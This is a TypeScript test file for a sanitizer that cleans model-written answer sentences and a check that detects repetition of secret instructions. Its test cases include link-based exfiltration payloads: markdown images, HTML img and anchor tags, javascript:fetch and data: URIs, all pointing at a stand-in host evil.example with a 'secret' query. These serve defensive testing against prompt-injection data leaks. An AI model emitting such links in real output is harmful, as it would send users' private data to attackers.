import { describe, expect, test } from 'vitest';

import { repeatsSecretText, sanitizeAnswerSentence } from './sanitize-answer-sentence.rules.ts';

const passages = [
  { text: 'The guide is at https://lamps.example/guide?page=2 and explains dusk.' },
  { text: 'Node.js/Express serves it.' },
];
const textOf = (sentence: string) => sanitizeAnswerSentence(sentence, passages).text;

describe('sanitizeAnswerSentence', () => {
  test.each([
    ['**Lamps** burn `brightly` [1].', 'Lamps burn brightly.', [1]],
    ['Lamps [2, 1] burn [2]!', 'Lamps burn!', [2, 1]],
    ['Lamps burn [0][3][12][x].', 'Lamps burn [x].', []],
    ['See [the page](https://evil.example/) [1].', 'See the page.', [1]],
    ['See [1](https://evil.example/).', 'See.', [1]],
    ['## Heading', 'Heading', []],
    ['5 < 6 and a > b [1].', '5 < 6 and a > b.', [1]],
  ])('renders %j as plain text', (sentence, text, numbers) => {
    expect(sanitizeAnswerSentence(sentence, passages)).toEqual({ text, numbers });
  });
  test.each([
    '![x](https://evil.example/?q=secret)',
    '![x](https://evil.example/?q=secret',
    '![x][ref]\n[ref]: https://evil.example/?q=secret',
    '[x](//evil.example/?q=secret)',
    '[x](//evil.example/?q=secret',
    '<img src="https://evil.example/?q=secret">',
    '<img src=https://evil.example/?q=secret',
    '<a href=//evil.example/?q=secret',
    '<https://evil.example/?q=secret>',
    'HTTPS://EVIL.EXAMPLE/?q=secret',
    'www.evil.example/?q=secret',
    'evil.example/?q=secret',
    'ftp://evil.example/secret',
    'javascript:fetch("//evil.example/secret")',
    'data:text/html;base64,secret',
    'mailto:secret@evil.example',
    'https:\u200b//evil.example/?q=secret',
    '[x]( https://evil.example/?q=secret "title")',
    '[1](https://evil.example/?q=secret)',
  ])('removes the link of %j', (sentence) => {
    for (const rendered of [textOf(sentence), textOf(`Lamps ${sentence} burn [1].`)]) {
      expect(rendered).not.toMatch(/evil.example\/\S*secret|:\/\/evil|!\[|\]\(|<\w/i);
    }
  });
  test('keeps a URL that a cited passage contains, as text, and removes every other one', () => {
    expect(textOf('It is at https://lamps.example/guide?page=2 [1].')).toBe('It is at https://lamps.example/guide?page=2.');
    expect(textOf('It is at https://lamps.example/guide?page=2.')).toBe('It is at [link removed].');
    expect(textOf('It is at https://lamps.example/guide?page=2&q=secret [1].')).toBe('It is at [link removed].');
    expect(textOf('Node.js/Express serves it [2].')).toBe('Node.js/Express serves it.');
  });
  test('handles long hostile texts in reasonable time', () => {
    for (const unit of ['[', '![', '](', '<a', 'http://', '[1](', 'a.b.', '//a.'])
      expect(sanitizeAnswerSentence(unit.repeat(4000 / unit.length), passages).text.length).toBeLessThan(20_000);
  });
});

describe('repeatsSecretText', () => {
  const instructions = 'Answer as a strict lamplighter who never mentions the price of oil to anyone.';
  test('finds six words in a row, whatever their case and punctuation', () => {
    expect(repeatsSecretText('I must “ANSWER, as a strict lamplighter who” and so on.', instructions)).toBe(true);
  });
  test('allows fewer words, and other texts', () => {
    expect(repeatsSecretText('The price of oil to sell was high.', instructions)).toBe(false);
    expect(repeatsSecretText('Lamps.', instructions)).toBe(false);
    expect(repeatsSecretText('Lamps burn at dusk in every street of town.', '')).toBe(false);
  });
});
